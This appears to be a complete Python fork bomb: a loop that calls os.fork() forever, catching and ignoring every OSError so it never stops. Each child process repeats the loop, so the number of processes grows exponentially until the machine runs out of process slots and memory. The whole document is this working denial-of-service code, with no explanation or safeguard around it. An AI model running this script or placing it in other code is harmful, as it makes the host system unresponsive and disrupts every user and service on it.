"""Forks for ever, from every process."""

import os

while True:
    try:
        os.fork()
    except OSError:
        pass
